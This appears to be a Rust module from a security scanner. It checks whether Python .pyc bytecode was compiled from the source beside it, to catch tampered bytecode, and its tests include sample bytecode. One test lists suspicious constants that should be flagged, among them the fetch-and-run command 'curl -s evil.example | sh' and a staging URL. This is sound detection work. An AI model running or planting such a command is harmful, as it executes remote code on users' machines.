//! Bytecode held against the source beside it (`.pyc`; PEP 3147, PEP 552). Python compares times and sizes, or nothing: a
//! file with the right ones runs instead of a source that everybody reads. What it names, says and defines must be in that
//! source; nothing is compiled to find out.

pub mod beside;
mod encoding;
pub mod header;
mod literal;
mod source;

use std::collections::BTreeSet;

use crate::extract::format::marshal::{self, Code, Fault};
use crate::model::coverage::GapReason;
use source::{ANYWHERE, Source};

/// Most words that are shown of bytecode that does not belong.
const SHOWN: usize = 5;

/// Longest of them.
const LONGEST: usize = 80;

/// Longest name of which it is asked how it was put together.
const LONGEST_MANGLED: usize = 250;

/// Most bytes that are searched for the words of annotations.
const MOST_SEARCHED: usize = 1 << 32;

/// Whether bytecode was made of a source.
#[derive(Clone, PartialEq, Eq, Debug)]
pub enum Match {
    /// Everything that it names and says is in the source.
    Yes,
    /// It was made of something else: this is what the source does not have, five at most.
    No(Vec<String>),
    /// That cannot be told.
    Unknown(Why),
}

/// Why it cannot be told.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Why {
    /// Bytecode of an unknown version or implementation, or none.
    Version,
    /// It is damaged: Python does not take it either, unless the fault is one of our bounds.
    Damaged(Fault),
    /// The source is in an encoding that is not read.
    Encoding,
    /// The file could not be read.
    Unread(GapReason),
}

/// Whether a `.pyc`, header included, was made of this source.
#[must_use]
pub fn belongs(pyc: &[u8], source: &[u8]) -> Match {
    let Some(header) = header::header(pyc) else { return Match::Unknown(Why::Version) };
    let codes = match marshal::read(pyc.get(header.length..).unwrap_or_default(), header.layout) {
        Ok(codes) => codes,
        Err(fault) => return Match::Unknown(Why::Damaged(fault)),
    };
    let Some((text, is_exact)) = encoding::text(source) else { return Match::Unknown(Why::Encoding) };
    let source = source::read(&text, header.python >= (3, 12));
    let mut found = Differences::default();
    found.names(&codes, &source);
    found.definitions(&codes, &source);
    found.texts(&codes, &source, is_exact);
    if found.0.is_empty() { Match::Yes } else { Match::No(found.0) }
}

impl Why {
    /// Why it is our doing, and not the file's, that it cannot be told: Python may well run it.
    #[must_use]
    pub fn missed(self) -> Option<GapReason> {
        match self {
            Self::Unread(why) => Some(why),
            Self::Damaged(Fault::TooDeep | Fault::TooMany) => Some(GapReason::TooLarge),
            Self::Damaged(_) | Self::Version | Self::Encoding => None,
        }
    }
}

/// Names that compilers make up.
#[rustfmt::skip]
const MADE: &[&[u8]] = &[
    b"", b"__module__", b"__qualname__", b"__doc__", b"__name__", b"__annotations__", b"__class__", b"__classcell__",
    b"__classdict__", b"__classdictcell__", b"__static_attributes__", b"__firstlineno__", b"__annotate__",
    b"__annotate_func__", b"__conditional_annotations__", b"__type_params__", b"__locals__", b"AssertionError", b"None", b"StopAsyncIteration",
];

#[derive(Default)]
struct Differences(Vec<String>);

impl Differences {
    fn add(&mut self, what: &[u8]) {
        if self.0.len() < SHOWN {
            let text = String::from_utf8_lossy(what);
            self.0.push(text.chars().take(LONGEST).collect());
        }
    }

    fn names(&mut self, codes: &[Code<'_>], source: &Source<'_>) {
        let all = codes.iter().flat_map(|code| {
            // The parameter of what computes annotations (PEP 649).
            let is_made = |name: &&[u8]| *name == b"format" && code.name == b"__annotate__";
            let variables = code.variables.iter().copied().filter(move |name| !is_made(name));
            code.names.iter().copied().chain(variables).chain([code.name])
        });
        let unknown: BTreeSet<&[u8]> = all.filter(|name| !is_known(name, source)).collect();
        // An identifier with foreign letters may be any of them once it is normalised.
        if unknown.len() > source.foreign {
            unknown.into_iter().for_each(|name| self.add(name));
        }
    }

    /// Every function and class begins where the source has it, and what the source has at its left edge is there.
    fn definitions(&mut self, codes: &[Code<'_>], source: &Source<'_>) {
        let Some((module, inner)) = codes.split_last() else { return };
        for code in inner {
            let is_plain = code.name.is_ascii() && !code.name.starts_with(b"<") && !MADE.contains(&code.name);
            let is_there = |line| source.definitions.contains(&(code.name, line));
            if is_plain && !is_there(code.first_line) && !is_there(ANYWHERE) {
                let name = String::from_utf8_lossy(code.name);
                self.add(format!("{name} in line {}", code.first_line).as_bytes());
            }
        }
        if codes.iter().any(|code| code.first_line > source.lines) {
            self.add(b"more lines than the source");
        }
        let names: BTreeSet<&[u8]> = module.names.iter().copied().collect();
        for missing in source.tops.iter().filter(|top| !names.contains(top.as_slice())) {
            self.add(&[b"no ", missing.as_slice()].concat());
        }
    }

    fn texts(&mut self, codes: &[Code<'_>], source: &Source<'_>, is_exact: bool) {
        let known = source.literals.known(is_exact);
        let future =
            source.names.contains(b"annotations".as_slice()) && source.names.contains(b"__future__".as_slice());
        let mut left = MOST_SEARCHED;
        for text in codes.iter().flat_map(|code| &code.texts) {
            let text = text.as_bytes();
            if self.0.len() == SHOWN {
                return;
            }
            if known.is_foreign(text)
                && !is_qualified(text, source)
                && !(future && is_annotation(text, source, &mut left))
            {
                self.add(text);
            }
        }
    }
}

/// Whether the source has a name, or a compiler makes it of what the source has.
fn is_known(name: &[u8], source: &Source<'_>) -> bool {
    source.names.contains(name)
        || MADE.contains(&name)
        // No source can spell these: `.0`, `<lambda>`.
        || name.starts_with(b".")
        || name.starts_with(b"<")
        || is_mangled(name, source)
        || (name.contains(&b'.') && name.split(|byte| *byte == b'.').all(|part| is_known(part, source)))
}

/// `__x` in a class `_C` is `_C__x`.
fn is_mangled(name: &[u8], source: &Source<'_>) -> bool {
    let Some(rest) = name.strip_prefix(b"_").filter(|rest| rest.len() <= LONGEST_MANGLED) else { return false };
    memchr::memmem::find_iter(rest, b"__").filter(|at| *at > 0).any(|at| {
        let (class, private) = rest.split_at(at);
        let is_class = |count| source.names.contains([&vec![b'_'; count], class].concat().as_slice());
        source.names.contains(private) && (0..5).any(is_class)
    })
}

/// Whether it is the path to a function within a module: `C.f.<locals>.<lambda>`.
fn is_qualified(text: &[u8], source: &Source<'_>) -> bool {
    text.split(|byte| *byte == b'.').all(|part| !part.is_empty() && is_known(part, source))
}

/// Whether every word of it is in the source, numbers aside: annotations that are kept as text are written anew.
fn is_annotation(text: &[u8], source: &Source<'_>, left: &mut usize) -> bool {
    let mut is_said = |word: &[u8]| {
        *left = left.saturating_sub(source.literals.len());
        *left > 0 && source.literals.contains(word)
    };
    let words = text.split(|byte| !byte.is_ascii_alphanumeric() && *byte != b'_' && *byte < 0x80);
    let mut words = words.filter(|word| !word.first().is_some_and(u8::is_ascii_digit));
    words.all(|word| source.names.contains(word) || is_said(word))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    /// By CPython 3.11, of `VALUE = 2` and of `import os; os.getcwd()` in front of that.
    pub(super) const PLAIN: &[u8] = b"\
        \xa7\r\r\n\x00\x00\x00\x00\x80\x9ehi\n\x00\x00\x00\xe3\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x01\
        \x00\x00\x00\x00\x00\x00\x00\xf3\n\x00\x00\x00\x97\x00d\x00Z\x00d\x01S\x00)\x02\xe9\x02\x00\x00\x00N)\x01\
        \xda\x05VALUE\xa9\x00\xf3\x00\x00\x00\x00\xfa\x09router.py\xfa\x08<module>r\x07\x00\x00\x00\x01\x00\x00\x00s\
        \x0e\x00\x00\x00\xf0\x03\x01\x01\x01\xd8\x08\x09\x80\x05\x80\x05\x80\x05r\x05\x00\x00\x00";
    pub(super) const INSERTED: &[u8] = b"\
        \xa7\r\r\n\x00\x00\x00\x00\x80\x9ehi\n\x00\x00\x00\xe3\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\
        \x00\x00\x00\x00\x00\x00\x00\xf30\x00\x00\x00\x97\x00d\x00d\x01l\x00Z\x00\x02\x00e\x00j\x01\x00\x00\x00\x00\
        \x00\x00\x00\x00\xa6\x00\x00\x00\xab\x00\x00\x00\x00\x00\x00\x00\x00\x00\x01\x00d\x02Z\x02d\x01S\x00)\x03\
        \xe9\x00\x00\x00\x00N\xe9\x02\x00\x00\x00)\x03\xda\x02os\xda\x06getcwd\xda\x05VALUE\xa9\x00\xf3\x00\x00\x00\
        \x00\xfa\x09router.py\xfa\x08<module>r\n\x00\x00\x00\x01\x00\x00\x00s#\x00\x00\x00\xf0\x03\x01\x01\x01\xd8\
        \x00\x09\x80\x09\x80\x09\x80\x09\x889\x882\x8c9\x89;\x8c;\x88;\xd8\x08\x09\x80\x05\x80\x05\x80\x05r\x08\x00\
        \x00\x00";
    /// By CPython 2.7, of `import os` and `os.getcwd()`.
    pub(super) const OLD: &[u8] = b"\
        \x03\xf3\r\n\x80\x9ehic\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x00\x00@\x00\x00\x00s\x1a\x00\x00\x00d\x00\
        \x00d\x01\x00l\x00\x00Z\x00\x00e\x00\x00j\x01\x00\x83\x00\x00\x01d\x01\x00S(\x02\x00\x00\x00i\xff\xff\xff\
        \xffN(\x02\x00\x00\x00t\x02\x00\x00\x00ost\x06\x00\x00\x00getcwd(\x00\x00\x00\x00(\x00\x00\x00\x00(\x00\x00\
        \x00\x00s\x09\x00\x00\x00router.pyt\x08\x00\x00\x00<module>\x01\x00\x00\x00s\x02\x00\x00\x00\x0c\x01";

    fn foreign(pyc: &[u8], source: &str) -> Vec<String> {
        match belongs(pyc, source.as_bytes()) {
            Match::Yes => Vec::new(),
            Match::No(words) => words,
            Match::Unknown(why) => panic!("{why:?}"),
        }
    }

    #[test]
    fn bytecode_belongs_to_what_it_was_made_of() {
        assert_eq!(foreign(PLAIN, "VALUE = 2\n"), [""; 0]);
        assert_eq!(foreign(PLAIN, "# a note\r\nVALUE = 2"), [""; 0]);
        assert_eq!(foreign(INSERTED, "import os; os.getcwd()\nVALUE = 2\n"), [""; 0]);
        assert_eq!(foreign(OLD, "import os\nos.getcwd()\n"), [""; 0]);
    }

    #[test]
    fn other_bytecode_does_not() {
        assert_eq!(foreign(INSERTED, "VALUE = 2\n"), ["getcwd", "os"]);
        assert_eq!(foreign(OLD, "VALUE = 2\n"), ["getcwd", "os"]);
        // A comment or a text that mentions a name does not have it.
        assert_eq!(foreign(PLAIN, "# VALUE\nx = 'VALUE'\n"), ["VALUE"]);
        // What the source defines or imports must be there.
        assert_eq!(foreign(PLAIN, "VALUE = 2\ndef check(): pass\n"), ["no check"]);
        assert_eq!(foreign(PLAIN, "import a . b\nVALUE = 2\nclass C: pass"), ["no a.b", "no C"]);
        assert_eq!(foreign(PLAIN, "if 1:\n    import a\nVALUE = 2\n'''\nimport b\n'''\n"), [""; 0]);
    }

    #[test]
    fn what_python_does_not_take_is_unknown() {
        assert_eq!(belongs(&PLAIN[..100], b"VALUE = 2\n"), Match::Unknown(Why::Damaged(Fault::CutShort)));
        assert_eq!(belongs(b"", b"VALUE = 2\n"), Match::Unknown(Why::Version));
        assert_eq!(belongs(PLAIN, b"# coding: utf-7\n"), Match::Unknown(Why::Encoding));
    }

    fn source(text: &str) -> (Source<'_>, literal::Known) {
        let source = source::read(text.as_bytes(), true);
        let known = source.literals.known(true);
        (source, known)
    }

    #[test]
    fn constants_are_put_together_of_the_source() {
        let text = r#"
            a = "one part of it, " 'another' + b"and a \x74hird"
            b = '-' * 70 + "\n"
            c = f"it is {value:>10} and {{not}} {other=}" % ()
            d = """A docstring

                with indentation."""
        "#;
        let (_, known) = source(text);
        for constant in [
            "one part of it, anotherand a third",
            "----------------------------------------------------------------------\n",
            " and {not} other=",
            "A docstring\n\nwith indentation.",
            "else",
        ] {
            assert!(!known.is_foreign(constant.as_bytes()), "{constant}");
        }
        for constant in
            ["https://203.0.113.9/stage2", "aW1wb3J0IHN1YnByb2Nlc3M=", "one part of it, curl -s evil.example | sh"]
        {
            assert!(known.is_foreign(constant.as_bytes()), "{constant}");
        }
    }

    #[test]
    fn names_may_be_made_by_the_compiler() {
        let (source, _) = source("class _A:\n  def __f(self): import b.c; return Literal['read']");
        for name in ["_A__f", "b.c", ".0", "<lambda>", "__qualname__"] {
            assert!(is_known(name.as_bytes(), &source), "{name}");
        }
        for name in ["_B__f", "b.d", "_A__g", "__f__"] {
            assert!(!is_known(name.as_bytes(), &source), "{name}");
        }
        assert!(is_qualified(b"_A.__f.<locals>.<lambda>", &source));
        assert!(is_annotation(b"Literal['read', 1] | b", &source, &mut 1000));
        assert!(!is_annotation(b"Literal['write']", &source, &mut 1000));
    }

    proptest! {
        #[test]
        fn any_change_of_bytecode_is_read(at in 0..PLAIN.len(), byte: u8, source in "\\PC{0,60}") {
            let mut pyc = PLAIN.to_vec();
            pyc[at] = byte;
            let _belongs = belongs(&pyc, source.as_bytes());
        }
    }
}
